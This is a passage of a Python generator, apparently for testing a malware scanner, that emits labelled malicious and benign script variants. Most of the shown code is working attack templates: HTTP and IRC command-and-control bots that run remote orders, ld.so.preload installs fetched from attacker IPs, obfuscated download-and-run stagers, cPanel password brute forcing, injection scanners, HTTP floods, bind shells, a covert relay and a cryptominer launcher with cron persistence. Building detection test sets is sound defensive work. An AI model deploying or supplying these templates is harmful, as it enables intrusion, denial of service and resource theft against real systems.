        "#!/usr/bin/env python3\nimport hashlib, os, subprocess, urllib.request\nURL = 'https://releases.example.invalid/cli'\n"
        "SHA = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'\n"
        "data = urllib.request.urlopen(URL).read()\nif hashlib.sha256(data).hexdigest() != SHA:\n    raise SystemExit('bad checksum')\n"
        "with open('/tmp/cli', 'wb') as f:\n    f.write(data)\nos.chmod('/tmp/cli', 0o755)\nsubprocess.run(['/tmp/cli', 'install'], check=True)\n",
        "#!/bin/bash\nset -euo pipefail\ntmp=$(mktemp -d)\ncurl -fsSL -o \"$tmp/kubectl\" https://dl.example.invalid/kubectl\n"
        "curl -fsSL -o \"$tmp/kubectl.sha256\" https://dl.example.invalid/kubectl.sha256\n"
        "echo \"$(cat $tmp/kubectl.sha256)  $tmp/kubectl\" | sha256sum --check\nchmod +x \"$tmp/kubectl\"\n"
        "install \"$tmp/kubectl\" /usr/local/bin/\n",
    ])
    g.lang = "py" if "python" in code else "sh"
    return code


# ---------------------------------------------------------------------------
# round 3: HTTP C2 pollers, preload installs, encoded stagers, Basic-auth guessing


def t_http_c2(g):
    """Poll a web C2 for an order, run it, post the output back, sleep (PHP, Python, Perl)."""
    r = g.rng
    u = r.choice(["http://%s/" % _ip(r), "http://%s:8443/api/" % _ip(r), "http://upd.example.invalid/s/"])
    a, b, c = _names(r, 3)
    n = r.choice([15, 30, 60, 300])
    v = {"u": u, "a": a, "b": b, "c": c, "n": n}
    code = r.choice([
        "<?php\n$%(a)s = '%(u)s';\nwhile (1) {\n    $%(b)s = json_decode(@file_get_contents($%(a)s . 'get'), true);\n"
        "    if (isset($%(b)s['c'])) {\n        $%(c)s = `{$%(b)s['c']}`;\n        $%(c)s = shell_exec($%(b)s['c']);\n"
        "        $o = array('http' => array('method' => 'POST', 'content' => 'r=' . urlencode($%(c)s)));\n"
        "        @file_get_contents($%(a)s . 'put', false, stream_context_create($o));\n    }\n    sleep(%(n)d);\n}\n",
        "#!/usr/bin/env python3\nimport requests, subprocess, time, platform\n%(a)s = '%(u)s'\nwhile True:\n"
        "    %(b)s = requests.get(%(a)s + 'job', params={'h': platform.node()}).text.strip()\n"
        "    if %(b)s:\n        %(c)s = subprocess.check_output(%(b)s, shell=True, stderr=subprocess.STDOUT)\n"
        "        requests.post(%(a)s + 'out', data={'h': platform.node(), 'o': %(c)s})\n    time.sleep(%(n)d)\n",
        "import os, time, json\nimport urllib.request as U\nwhile 1:\n    try:\n"
        "        %(b)s = json.load(U.urlopen('%(u)s' + 'q'))\n        for %(c)s in %(b)s['cmds']:\n"
        "            U.urlopen(U.Request('%(u)s' + 'a', data=os.popen(%(c)s).read().encode()))\n"
        "    except Exception:\n        pass\n    time.sleep(%(n)d)\n",
        "#!/usr/bin/perl\nuse LWP::UserAgent;\n$0 = '[kworker/0:1]';\nfork and exit;\nmy $%(a)s = LWP::UserAgent->new;\n"
        "while (1) {\n    my $%(b)s = $%(a)s->get('%(u)s' . 'c')->content;\n    if ($%(b)s) { system($%(b)s); }\n    sleep %(n)d;\n}\n",
        "#!/usr/bin/perl\nuse LWP::Simple;\nwhile (1) {\n    my $%(b)s = get('%(u)s' . 'cmd');\n"
        "    my $%(c)s = qx($%(b)s);\n    my $ua = LWP::UserAgent->new; $ua->post('%(u)s' . 'r', [o => $%(c)s]);\n    sleep(%(n)d);\n}\n",
    ])
    g.lang = "php" if code.startswith("<?php") else ("pl" if "perl" in code else "py")
    return code % v


def t_ld_preload(g):
    """A shared object compiled or fetched, then written into /etc/ld.so.preload."""
    r = g.rng
    so = r.choice(["/usr/lib/libsystemd-shared.so.3", "/lib/.libx.so", "/usr/local/lib/libaudit.so.9",
                   "/lib64/.sshd.so"])
    ip = _ip(r)
    v = {"so": so, "ip": ip, "a": _id(r)}
    code = r.choice([
        "#!/bin/bash\ncurl -s http://%(ip)s/h.so > %(so)s\necho %(so)s > /etc/ld.so.preload\n",
        "#!/bin/sh\ncd /tmp && wget -q http://%(ip)s/h.c\ncc -Wall -fPIC -shared -o %(so)s h.c -ldl\n"
        "rm -f h.c\nprintf '%%s\\n' %(so)s >> /etc/ld.so.preload\n",
        "#!/bin/sh\n%(a)s=%(so)s\nwget http://%(ip)s:81/lib.so -O $%(a)s\necho $%(a)s | tee /etc/ld.so.preload\n"
        "touch -r /bin/true $%(a)s\n",
        "#!/bin/bash\ngcc -shared -o %(so)s -fPIC /dev/shm/.s.c -ldl && echo \"%(so)s\" >> /etc/ld.so.preload\n",
    ])
    g.lang = "sh"
    return code % v


def t_enc_stager(g):
    """A shell stager behind hex, printf escapes, split base64 or a /dev/tcp fetch."""
    r = g.rng
    ip = _ip(r)
    a, b = _names(r, 2)
    hexs = "".join("%02x" % ord(ch) for ch in "wget -qO- http://%s/x|sh" % ip)
    esc = "".join("\\x%02x" % ord(ch) for ch in r.choice(["curl", "wget", "bash"]))
    v = {"ip": ip, "a": a, "b": b, "h": hexs, "e": esc}
    code = r.choice([
        "#!/bin/sh\n%(a)s=%(h)s\necho $%(a)s | xxd -r -ps | bash\n",
        "#!/bin/bash\n$(printf '%(e)s') -s http://%(ip)s/p -o /tmp/p; sh /tmp/p\n",
        "#!/bin/bash\n%(a)s='d2dldCAtcU8t'\n%(b)s='IGh0dHA6Ly94L3MgfCBzaA=='\neval \"$(base64 --decode <<<$%(a)s$%(b)s)\"\n",
        "#!/bin/sh\n%(b)s=`echo \"$1$2\" | base64 -d`\neval \"$%(b)s\"\n",
        "#!/bin/bash\nexec 7<>/dev/tcp/%(ip)s/80\necho -e \"GET /s HTTP/1.0\\r\\n\\r\\n\" >&7\ncat <&7 | sed '1,/^\\r$/d' | sh\n",
    ])
    g.lang = "sh"
    return code % v


def t_basic_brute(g):
    """Basic-auth guessing of a control panel over local users or a word list."""
    r = g.rng
    port = r.choice([2082, 2083, 2086, 2087, 2096])
    a, b = _names(r, 2)
    v = {"p": port, "a": a, "b": b}
    code = r.choice([
        "#!/usr/bin/perl\nuse LWP::UserAgent;\nmy $ua = LWP::UserAgent->new;\nopen(F, '/etc/passwd');\n"
        "while (my $l = <F>) {\n  my ($%(a)s) = split /:/, $l;\n  open(W, $ARGV[1]);\n  while (my $%(b)s = <W>) {\n"
        "    chomp $%(b)s;\n    $ua->credentials(\"$ARGV[0]:%(p)d\", 'cPanel', $%(a)s, $%(b)s);\n"
        "    my $r = $ua->get(\"http://$ARGV[0]:%(p)d/\");\n    print \"$%(a)s $%(b)s\\n\" if $r->is_success;\n  }\n}\n",
        "#!/usr/bin/env python3\nimport sys, requests\nfrom requests.auth import HTTPBasicAuth\n"
        "for %(a)s in open(sys.argv[2]).read().split():\n    for %(b)s in open('wordlist.txt').read().split():\n"
        "        r = requests.get('https://%%s:%(p)d/' %% sys.argv[1], auth=HTTPBasicAuth(%(a)s, %(b)s), verify=False)\n"
        "        if r.status_code == 200:\n            print(%(a)s, %(b)s)\n",
        "<?php\n$u = array_map(function ($l) { return explode(':', $l)[0]; }, file('/etc/passwd'));\n"
        "foreach ($u as $%(a)s) foreach (file($argv[2]) as $%(b)s) {\n  $h = curl_init('https://' . $argv[1] . ':%(p)d/');\n"
        "  curl_setopt($h, CURLOPT_USERPWD, $%(a)s . ':' . trim($%(b)s));\n  curl_setopt($h, CURLOPT_RETURNTRANSFER, 1);\n"
        "  curl_exec($h);\n  if (curl_getinfo($h, CURLINFO_HTTP_CODE) == 200) echo \"$%(a)s\\n\";\n}\n",
    ])
    g.lang = "php" if code.startswith("<?php") else ("pl" if "perl" in code else "py")
    return code % v


def b_config_poller(g):
    """A monitoring agent: polls its config URL, runs fixed checks, posts metrics, sleeps."""
    r = g.rng
    code = r.choice([
        "#!/usr/bin/env python3\nimport requests, subprocess, time\nwhile True:\n"
        "    cfg = requests.get('https://mon.example.com/cfg').json()\n"
        "    up = subprocess.run(['uptime'], capture_output=True, text=True).stdout\n"
        "    requests.post(cfg['url'], json={'uptime': up})\n    time.sleep(cfg.get('every', 60))\n",
        "<?php\nwhile (true) {\n    $cfg = json_decode(file_get_contents('https://mon.example.com/cfg'), true);\n"
        "    $load = sys_getloadavg();\n    $disk = shell_exec('df -P /');\n"
        "    $o = array('http' => array('method' => 'POST', 'content' => json_encode(array($load, $disk))));\n"
        "    file_get_contents($cfg['url'], false, stream_context_create($o));\n    sleep(60);\n}\n",
        "#!/usr/bin/perl\nuse LWP::UserAgent;\n$0 = 'mon-agent';\nmy $ua = LWP::UserAgent->new;\nwhile (1) {\n"
        "    my $r = $ua->get('https://mon.example.com/cfg');\n    my $df = `df -P /`;\n"
        "    $ua->post('https://mon.example.com/in', { df => $df });\n    sleep 60;\n}\n",
    ])
    g.lang = "php" if code.startswith("<?php") else ("pl" if "perl" in code else "py")
    return code


def b_so_build(g):
    """A build script that compiles a shared library, or a base64 certificate installer."""
    r = g.rng
    code = r.choice([
        "#!/bin/sh\nset -e\ngcc -shared -fPIC -o build/libplugin.so src/plugin.c\ncp build/libplugin.so /usr/local/lib/\nldconfig\n",
        "#!/bin/bash\necho \"$CERT\" | base64 -d > /etc/ssl/certs/site.pem\nchmod 644 /etc/ssl/certs/site.pem\n",
        "#!/bin/sh\nRED=$(printf '\\033[31m')\nOFF=$(printf '\\033[0m')\necho \"${RED}failed${OFF}\"\n",
    ])
    g.lang = "sh"
    return code


# ---------------------------------------------------------------------------
# round 5 (branch scripts4): IRC-commanded web scanners, and the URL-title bot
# that fetches pages too. Written from the technique, not from samples.


def t_irc_scanner(g):
    """An IRC bot that takes a dork from the channel, asks a search engine for
    targets, probes each for an RFI/LFI/SQL injection and reports hits."""
    r = g.rng
    v = {"h": r.choice(["irc.example.invalid", _ip(r)]), "port": r.choice([6667, 7000, 8080]),
         "nick": r.choice(["scan", "x", "dork"]) + str(r.randint(10, 999)), "ch": r.choice(["#scan", "#x", "#dork"]),
         "se": r.choice(["http://www.google.com/search?q=", "http://www.bing.com/search?q=",
                         "http://search.yahoo.com/search?p=", "http://www.ask.com/web?q="]),
         "rfi": r.choice(["http://" + _ip(r) + "/id.txt?", "http://x.example.invalid/t.gif?"]),
         "chk": r.choice(["root:x:0:0", "You have an error in your SQL syntax", "mysql_fetch_array"])}
    style = r.choice(["pl", "py", "php"])
    if style == "pl":
        code = ("#!/usr/bin/perl\nuse IO::Socket::INET;\nuse LWP::UserAgent;\n"
                "my $s = IO::Socket::INET->new(PeerAddr => '%(h)s', PeerPort => %(port)d) or die;\n"
                "print $s \"NICK %(nick)s\\r\\nUSER %(nick)s 0 * :%(nick)s\\r\\nJOIN %(ch)s\\r\\n\";\n"
                "my $ua = LWP::UserAgent->new(timeout => 8);\n"
                "while (my $l = <$s>) {\n  print $s \"PONG $1\\r\\n\" if $l =~ /^PING (.*)/;\n"
                "  if ($l =~ /PRIVMSG (\\S+) :!scan (.+)/) { my ($c, $d) = ($1, $2);\n"
                "    my $res = $ua->get('%(se)s' . $d)->content;\n"
                "    while ($res =~ m{href=\"(http://[^\"]+\\?[^\"=]+=)}g) { my $u = $1;\n"
                "      my $t = $ua->get($u . '%(rfi)s')->content . $ua->get($u . '../../../../etc/passwd')->content;\n"
                "      print $s \"PRIVMSG $c :vuln $u\\r\\n\" if $t =~ /%(chk)s/;\n    }\n  }\n}\n")
    elif style == "py":
        code = ("#!/usr/bin/env python3\nimport socket, re, urllib.request, urllib.parse\n"
                "s = socket.create_connection(('%(h)s', %(port)d))\n"
                "s.send(b'NICK %(nick)s\\r\\nUSER %(nick)s 0 * :%(nick)s\\r\\nJOIN %(ch)s\\r\\n')\n"
                "def get(u):\n    try:\n        return urllib.request.urlopen(u, timeout=8).read().decode('latin-1')\n"
                "    except Exception:\n        return ''\n"
                "for line in s.makefile('r', encoding='latin-1'):\n"
                "    if line.startswith('PING'):\n        s.send(('PONG' + line[4:]).encode())\n"
                "    m = re.search(r'PRIVMSG (\\S+) :\\.scan (.+)', line)\n    if not m:\n        continue\n"
                "    page = get('%(se)s' + urllib.parse.quote(m.group(2).strip()))\n"
                "    for u in re.findall(r'href=\"(http://[^\"]+\\?\\w+=)', page):\n"
                "        if '%(chk)s' in get(u + \"1%%27\") + get(u + '../../../../etc/passwd'):\n"
                "            s.send(('PRIVMSG %%s :found %%s\\r\\n' %% (m.group(1), u)).encode())\n")
    else:
        code = ("<?php\nset_time_limit(0);\n$s = fsockopen('%(h)s', %(port)d);\n"
                "fputs($s, \"NICK %(nick)s\\r\\nUSER %(nick)s 0 * :%(nick)s\\r\\nJOIN %(ch)s\\r\\n\");\n"
                "while (!feof($s)) { $l = fgets($s, 1024);\n"
                "  if (substr($l, 0, 4) == 'PING') fputs($s, 'PONG' . substr($l, 4));\n"
                "  if (preg_match('/PRIVMSG (\\S+) :@scan (.+)/', $l, $m)) {\n"
                "    $page = @file_get_contents('%(se)s' . urlencode(trim($m[2])));\n"
                "    preg_match_all('#href=\"(http://[^\"]+\\?\\w+=)#', $page, $u);\n"
                "    foreach ($u[1] as $t) { $r = @file_get_contents($t . '%(rfi)s');\n"
                "      if (strpos($r, '%(chk)s') !== false) fputs($s, \"PRIVMSG $m[1] :hit $t\\r\\n\"); }\n  }\n}\n")
    g.lang = style
    return code % v


def b_url_title_bot(g):
    """A channel's URL-title bot: fetches links posted in the channel and says their title."""
    r = g.rng
    v = {"h": r.choice(["irc.libera.chat", "irc.example.org"]), "ch": r.choice(["#proj", "#dev"]),
         "nick": r.choice(["titlebot", "linkbot"])}
    code = r.choice([
        "#!/usr/bin/perl\nuse strict;\nuse IO::Socket::INET;\nuse LWP::UserAgent;\n"
        "my $s = IO::Socket::INET->new(PeerAddr => '%(h)s', PeerPort => 6667) or die;\n"
        "print $s \"NICK %(nick)s\\r\\nUSER %(nick)s 0 * :titles\\r\\nJOIN %(ch)s\\r\\n\";\n"
        "my $ua = LWP::UserAgent->new(timeout => 5, max_size => 65536);\n"
        "while (my $l = <$s>) {\n  print $s \"PONG $1\\r\\n\" if $l =~ /^PING (.*)/;\n"
        "  if ($l =~ m{PRIVMSG (#\\S+) :.*?(https?://\\S+)}) { my ($c, $u) = ($1, $2);\n"
        "    my $r = $ua->get($u);\n    next unless $r->is_success;\n"
        "    print $s \"PRIVMSG $c :title: $1\\r\\n\" if $r->decoded_content =~ m{<title>(.*?)</title>}si;\n  }\n}\n",
        "#!/usr/bin/env python3\nimport re, socket, urllib.request\n"
        "s = socket.create_connection(('%(h)s', 6667))\n"
        "s.send(b'NICK %(nick)s\\r\\nUSER %(nick)s 0 * :titles\\r\\nJOIN %(ch)s\\r\\n')\n"
        "for line in s.makefile('r', encoding='utf-8', errors='replace'):\n"
        "    if line.startswith('PING'):\n        s.send(('PONG' + line[4:]).encode())\n"
        "    m = re.search(r'PRIVMSG (#\\S+) :.*?(https?://\\S+)', line)\n"
        "    if m:\n        html = urllib.request.urlopen(m.group(2), timeout=5).read(65536).decode('utf-8', 'replace')\n"
        "        t = re.search(r'<title>(.*?)</title>', html, re.S)\n"
        "        if t:\n            s.send(('PRIVMSG %%s :%%s\\r\\n' %% (m.group(1), t.group(1).strip())).encode())\n",
    ])
    g.lang = "pl" if "perl" in code else "py"
    return code % v


# ---------------------------------------------------------------------------
# round 6 (branch mail5): other spellings of bots, floods, bind shells,
# proxies and miner launchers, and look-alikes (IRC library, maintainer
# script, ssh tunnel keeper, a CI load test)


def t6_py_irc_dispatch(g):
    """Python IRC bot over a raw socket whose orders go through a table of
    handlers; the shell handler is a function far from the parser."""
    r = g.rng
    g.lang = "py"
    s, h = _names(r, 2)
    v = {"s": s, "h": h, "host": r.choice(["irc.example.invalid", _ip(r)]), "port": r.choice([6667, 6697, 8080]),
         "nick": "py" + str(r.randint(100, 999)), "ch": r.choice(["#x", "#cnc", "#b"])}
    run = r.choice(["subprocess.getoutput(arg)", "os.popen(arg).read()",
                    "subprocess.run(arg, shell=True, capture_output=True).stdout.decode()",
                    "subprocess.check_output(arg, shell=True, stderr=subprocess.STDOUT).decode()"])
    return ("#!/usr/bin/env python3\nimport socket, subprocess, os, time\n\n"
            "def do_shell(%(s)s, target, arg):\n    out = " + run + "\n"
            "    for line in out.splitlines()[:20]:\n        %(s)s.send(('PRIVMSG %%s :%%s\\r\\n' %% (target, line)).encode())\n\n"
            "def do_get(%(s)s, target, arg):\n    os.system('wget -q -O /tmp/.u ' + arg)\n\n"
            "HANDLERS = {'!sh': do_shell, '!get': do_get}\n\n"
            "%(s)s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n%(s)s.connect(('%(host)s', %(port)d))\n"
            "%(s)s.send(b'NICK %(nick)s\\r\\nUSER %(nick)s 0 * :x\\r\\n')\n%(s)s.send(b'JOIN %(ch)s\\r\\n')\n"
            "buf = b''\nwhile True:\n    buf += %(s)s.recv(4096)\n    while b'\\r\\n' in buf:\n        line, buf = buf.split(b'\\r\\n', 1)\n"
            "        line = line.decode(errors='ignore')\n        if line.startswith('PING'):\n            %(s)s.send(('PONG' + line[4:] + '\\r\\n').encode())\n"
            "        elif ' PRIVMSG ' in line:\n            target = line.split()[2]\n            text = line.split(' :', 1)[1]\n"
            "            word, _, arg = text.partition(' ')\n            if word in HANDLERS:\n                HANDLERS[word](%(s)s, target, arg)\n") % v


def t6_sh_irc_bot(g):
    """A shell IRC bot over bash's /dev/tcp (or ncat with a fifo): reads the
    channel and evals what follows the trigger."""
    r = g.rng
    g.lang = "sh"
    host = r.choice(["irc.example.invalid", _ip(r)])
    nick = "sh" + str(r.randint(10, 99))
    trig = r.choice(["!x", ".run", "@c"])
    if r.random() < 0.6:
        return ("#!/bin/bash\nexec 3<>/dev/tcp/%s/6667\necho -e \"NICK %s\\r\\nUSER %s 0 * :%s\\r\" >&3\necho -e \"JOIN #z\\r\" >&3\n"
                "while read -r line <&3; do\n  case \"$line\" in\n    PING*) echo \"PONG ${line#PING }\" >&3 ;;\n"
                "    *PRIVMSG*\"%s \"*) cmd=\"${line#*%s }\"; eval \"$cmd\" 2>&1 | head -5 | while read -r o; do echo \"PRIVMSG #z :$o\" >&3; done ;;\n"
                "  esac\ndone\n") % (host, nick, nick, nick, trig, trig)
    return ("#!/bin/sh\nf=/tmp/.f$$\nmkfifo $f\nncat %s 6667 < $f | while read -r l; do\n"
            "  case \"$l\" in\n    PING*) echo \"PONG ${l#PING }\" ;;\n    *\"PRIVMSG\"*\"%s \"*) c=$(echo \"$l\" | sed 's/.*%s //'); sh -c \"$c\" 2>&1 | sed 's/^/PRIVMSG #z :/' ;;\n"
            "  esac\ndone > $f &\n(echo \"NICK %s\"; echo \"USER %s 0 * :x\"; echo \"JOIN #z\") > $f\n") % (host, trig, trig, nick, nick)


def t6_http_flood_php(g):
    """t6_http_flood, the PHP page: the target and the duration from the request."""
    g.lang = "php"
    return t6_http_flood(g, "php")


def t6_http_flood(g, lang=None):
    """An HTTP flood: requests to a target taken from argv or the request, as
    fast as threads or curl_multi allow, until a deadline."""
    r = g.rng
    lang = lang or "py"
    g.lang = lang
    if lang == "py":
        return ("#!/usr/bin/env python3\nimport sys, threading, random, time, urllib.request\n"
                "target, secs, nthreads = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])\nend = time.time() + secs\n"
                "UA = ['Mozilla/5.0 (Windows NT 10.0)', 'Mozilla/5.0 (X11; Linux)']\n"
                "def hammer():\n    while time.time() < end:\n        try:\n"
                "            req = urllib.request.Request(target + '?' + str(random.randint(0, 10**9)), headers={'User-Agent': random.choice(UA), 'Cache-Control': 'no-cache'})\n"
                "            urllib.request.urlopen(req, timeout=3).read(1)\n        except Exception:\n            pass\n"
                "for _ in range(nthreads):\n    threading.Thread(target=hammer, daemon=True).start()\ntime.sleep(secs)\n")
    return ("<?php\nset_time_limit(0);\nignore_user_abort(true);\n$url = $_GET['u'];\n$end = time() + (int)$_GET['t'];\n"
            "while (time() < $end) {\n    $mh = curl_multi_init();\n    $hs = array();\n    for ($i = 0; $i < 50; $i++) {\n"
            "        $c = curl_init($url . '?' . mt_rand());\n        curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);\n        curl_setopt($c, CURLOPT_TIMEOUT, 2);\n"
            "        curl_multi_add_handle($mh, $c);\n        $hs[] = $c;\n    }\n    do { curl_multi_exec($mh, $run); } while ($run > 0);\n"
            "    foreach ($hs as $c) curl_multi_remove_handle($mh, $c);\n    curl_multi_close($mh);\n}\necho 'done';\n")


def t6_bind_shell(g):
    """A bind shell: listens on a port, and each connection gets a shell."""
    r = g.rng
    lang = r.choice(["py", "pl"])
    g.lang = lang
    port = r.choice([31337, 4444, 8081, 65000])
    if lang == "py":
        return ("#!/usr/bin/env python3\nimport socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
                "s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\ns.bind(('0.0.0.0', %d))\ns.listen(1)\n"
                "while True:\n    c, a = s.accept()\n    if os.fork() == 0:\n        for fd in (0, 1, 2):\n            os.dup2(c.fileno(), fd)\n"
                "        pty.spawn('/bin/bash')\n        os._exit(0)\n    c.close()\n") % port
    return ("#!/usr/bin/perl\nuse IO::Socket::INET;\n$0 = '[kworker/0:1]';\n"
            "my $srv = IO::Socket::INET->new(LocalPort => %d, Listen => 5, Reuse => 1, Proto => 'tcp') or exit;\n"
            "while (my $c = $srv->accept) {\n    next if fork;\n    open(STDIN, '<&', $c);\n    open(STDOUT, '>&', $c);\n    open(STDERR, '>&', $c);\n"
            "    exec('/bin/sh', '-i');\n}\n") % port


def t6_tmp_proxy(g):
    """A relay dropped in /tmp: listens locally and forwards to a fixed far end
    (or a SOCKS-less port forward), detached with nohup."""
    r = g.rng
    g.lang = "py"
    far = _ip(r)
    return ("#!/usr/bin/env python3\n# started as: nohup python3 /tmp/.p.py >/dev/null 2>&1 &\nimport socket, select, threading, os\n"
            "os.setsid() if hasattr(os, 'setsid') else None\nLISTEN, FAR = ('0.0.0.0', %d), ('%s', %d)\n"
            "def pipe(a, b):\n    socks = [a, b]\n    while True:\n        r, _, _ = select.select(socks, [], [], 60)\n        if not r:\n            break\n"
            "        for x in r:\n            d = x.recv(65536)\n            if not d:\n                return\n            (b if x is a else a).sendall(d)\n"
            "srv = socket.socket()\nsrv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\nsrv.bind(LISTEN)\nsrv.listen(50)\n"
            "while True:\n    c, _ = srv.accept()\n    f = socket.create_connection(FAR)\n    threading.Thread(target=pipe, args=(c, f), daemon=True).start()\n") % (
        r.choice([1080, 8888, 3128]), far, r.choice([443, 8443, 9001]))


def t6_miner_sh(g):
    """A miner's launcher in shell: fetch, unpack into a dot dir, start detached
    with a pool and a wallet, keep it across reboots."""
    r = g.rng
    g.lang = "sh"
    d = r.choice(["$HOME/.cache/.sys", "/tmp/.X11-lock", "/dev/shm/.k", "/var/tmp/.font-unix"])
    pool = r.choice(["pool.example.invalid:3333", "%s:443" % _ip(r), "stratum+tcp://pool.example.invalid:4444"])
    return ("#!/bin/sh\nD=%s\nmkdir -p $D && cd $D\n"
            "command -v curl >/dev/null && curl -fsSL http://%s/x.tgz -o x.tgz || wget -q http://%s/x.tgz\n"
            "tar xzf x.tgz && rm -f x.tgz && mv xmrig kthreadd\npkill -f xmrig; pkill -f minerd\n"
            "nohup ./kthreadd -o %s -u 4%s -p x --cpu-max-threads-hint=%d -B >/dev/null 2>&1 &\n"
            "(crontab -l 2>/dev/null; echo \"@reboot $D/kthreadd -o %s -u 4%s -B\") | crontab -\n") % (
        d, _ip(r), _ip(r), pool, "A" * 20, r.choice([50, 75, 100]), pool, "A" * 20)


def b6_irc_library(g):
    """A legitimate IRC client library module: connect, register, dispatch
    PRIVMSG to registered callbacks; runs nothing."""
    g.lang = "py"
    return ("\"\"\"Minimal IRC client.\"\"\"\nimport socket, ssl\n\nclass Client:\n    def __init__(self, host, port=6697, nick='bot'):\n"
            "        self.host, self.port, self.nick = host, port, nick\n        self.handlers = {}\n\n"
            "    def on(self, event):\n        def deco(fn):\n            self.handlers.setdefault(event, []).append(fn)\n            return fn\n        return deco\n\n"
            "    def connect(self):\n        raw = socket.create_connection((self.host, self.port))\n        self.sock = ssl.create_default_context().wrap_socket(raw, server_hostname=self.host)\n"
            "        self.send('NICK ' + self.nick)\n        self.send('USER %s 0 * :%s' % (self.nick, self.nick))\n\n"
            "    def send(self, line):\n        self.sock.sendall((line + '\\r\\n').encode())\n\n"
            "    def loop(self):\n        buf = b''\n        while True:\n            data = self.sock.recv(4096)\n            if not data:\n                break\n"
            "            buf += data\n            while b'\\r\\n' in buf:\n                line, buf = buf.split(b'\\r\\n', 1)\n                self.dispatch(line.decode('utf-8', 'replace'))\n\n"
            "    def dispatch(self, line):\n        if line.startswith('PING'):\n            self.send('PONG' + line[4:])\n            return\n"
            "        parts = line.split(' ', 3)\n        if len(parts) > 3 and parts[1] == 'PRIVMSG':\n"
            "            for fn in self.handlers.get('message', []):\n                fn(parts[2], parts[3][1:])\n")


def b6_maint_script(g):
    """A Debian maintainer script: creates a system user, enables the unit,
    fixes permissions; nothing fetched."""
    g.lang = "sh"
    return ("#!/bin/sh\nset -e\ncase \"$1\" in\n  configure)\n    if ! getent passwd exampled >/dev/null; then\n"
            "      adduser --system --group --home /var/lib/exampled --no-create-home exampled\n    fi\n"
            "    chown exampled:exampled /var/lib/exampled\n    chmod 0750 /var/lib/exampled\n    ;;\nesac\n"
            "if [ \"$1\" = \"configure\" ] || [ \"$1\" = \"abort-upgrade\" ]; then\n    deb-systemd-helper unmask exampled.service >/dev/null || true\n"
            "    if deb-systemd-helper --quiet was-enabled exampled.service; then\n        deb-systemd-helper enable exampled.service >/dev/null || true\n    fi\nfi\n#DEBHELPER#\nexit 0\n")


def b6_tunnel_keeper(g):
    """An admin's ssh tunnel keeper: autossh to a fixed bastion, started from
    cron if not running."""
    g.lang = "sh"
    return ("#!/bin/sh\n# keep the reporting tunnel to the bastion up (cron: */5 * * * *)\n"
            "pgrep -f 'autossh.*reports-tunnel' >/dev/null && exit 0\n"
            "autossh -M 0 -f -N -o ServerAliveInterval=30 -o ExitOnForwardFailure=yes -L 15432:db.internal.example:5432 reports-tunnel@bastion.example.com\n")


def b6_ci_loadtest(g):
    """A CI load test against the staging host, fixed URL, fixed duration."""
    g.lang = "sh"
    return ("#!/bin/sh\nset -eu\n# smoke load test after deploy\nURL=https://staging.example.com/health\n"
            "wrk -t4 -c64 -d30s --latency \"$URL\" | tee wrk.txt\nab -n 2000 -c 20 \"$URL\" > ab.txt\n"
            "grep -q 'Non-2xx' wrk.txt && exit 1 || exit 0\n")


def _lang_of(fn):
    """The extension is decided by the template's choice (g.lang)."""
    return fn


# name, function, class, extension ("auto": the template sets g.lang), expectation
BOT_TEMPLATES = [
    ("php_irc_bot", t_php_irc_bot, "malicious", "php", "high"),
    ("irc_dispatch", t_irc_dispatch, "malicious", "auto", "high"),
    ("udp_flood", t_udp_flood, "malicious", "auto", "high"),
    ("sshkey_persist", t_sshkey_persist, "malicious", "auto", "high"),
    ("cron_persist", t_cron_persist, "malicious", "auto", "high"),
    ("dropper2", t_dropper, "malicious", "auto", "high"),
    ("miner_code", t_miner_code, "malicious", "auto", "high"),
    ("irc_notify", b_irc_notify, "benign", "auto", "none"),
    ("udp_metrics", b_udp_metrics, "benign", "auto", "none"),
    ("ssh_copy_id", b_ssh_copy_id, "benign", "auto", "none"),
    ("cron_installer", b_cron_installer, "benign", "auto", "none"),
    ("verified_download", b_verified_download, "benign", "auto", "none"),
    ("http_c2", t_http_c2, "malicious", "auto", "high"),
    ("ld_preload", t_ld_preload, "malicious", "auto", "high"),
    ("enc_stager", t_enc_stager, "malicious", "auto", "high"),
    ("basic_brute", t_basic_brute, "malicious", "auto", "high"),
    ("config_poller", b_config_poller, "benign", "auto", "none"),
    ("so_build", b_so_build, "benign", "auto", "none"),
    ("irc_scanner", t_irc_scanner, "malicious", "auto", "high"),
    ("url_title_bot", b_url_title_bot, "benign", "auto", "none"),
]

# round 6 (branch mail5): kept apart (botgen.py --set r6; tests/eval-mail.sh
# --bots, tests/integration/scan_scripts6.sh) so that the round-2 set of
# scan_scripts.sh and gen_variants.py is unchanged; expectation "any" for a
# plain relay (a port forwarder in /tmp is suspicious, not proof)
BOT6_TEMPLATES = [
    ("r6_py_irc_dispatch", t6_py_irc_dispatch, "malicious", "auto", "high"),
    ("r6_sh_irc_bot", t6_sh_irc_bot, "malicious", "auto", "high"),
    ("r6_http_flood_php", t6_http_flood_php, "malicious", "auto", "high"),
    ("r6_http_flood_cli", t6_http_flood, "malicious", "auto", "any"),
    ("r6_bind_shell", t6_bind_shell, "malicious", "auto", "high"),
    ("r6_tmp_proxy", t6_tmp_proxy, "malicious", "auto", "any"),
    ("r6_miner_sh", t6_miner_sh, "malicious", "auto", "high"),
    ("r6_irc_library", b6_irc_library, "benign", "auto", "none"),
    ("r6_maint_script", b6_maint_script, "benign", "auto", "none"),
    ("r6_tunnel_keeper", b6_tunnel_keeper, "benign", "auto", "none"),
    ("r6_ci_loadtest", b6_ci_loadtest, "benign", "auto", "none"),
]


def main():
    """botgen.py --out DIR [--seed N] [--per N]: these templates' variants and
    variants.tsv, as scriptgen.py."""
    import argparse
    import hashlib
    import os
    import random
    import sys
    sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
    from phpgen import Gen
    from gen_variants import safe_out_dir
    ap = argparse.ArgumentParser(description="bot and persistence variants, round 2")
    ap.add_argument("--out", required=True)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--per", type=int, default=8)
    ap.add_argument("--set", choices=["r2", "r6"], default="r2", help="r2: rounds 2-5 (default); r6: round 6")
    a = ap.parse_args()
    out = safe_out_dir(a.out)
    os.makedirs(out, exist_ok=True)
